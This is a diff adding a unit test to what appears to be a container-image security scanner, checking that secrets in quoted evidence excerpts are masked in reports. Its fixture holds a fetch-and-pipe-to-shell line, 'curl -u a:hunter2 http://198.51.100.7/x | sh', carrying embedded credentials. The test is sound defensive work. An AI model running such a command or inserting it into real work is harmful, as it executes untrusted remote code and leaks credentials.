@@ -343,3 +343,11 @@ test('values elsewhere do not crowd out those beside a threat', () => {
   assert.ok(report.indicators.some((one) => one.value === 'the one'));
   assert.equal(report.indicators.length, 1000);
 });
+
+test('every quotation is masked, whichever detector made it', () => {
+  const mask = (text: string): string => text.replaceAll('hunter2', '…');
+  const finding = { subject: 'text' as const, excerpt: 'curl -u a:hunter2 http://198.51.100.7/x | sh' };
+  const report = judgeImage([[{ path: '/opt/x.sh', findings: [finding] }]], {}, { mask });
+  assert.equal(only(report).evidence[0]?.excerpt, 'curl -u a:… http://198.51.100.7/x | sh');
+  assert.ok(!JSON.stringify(report).includes('hunter2'));
+});
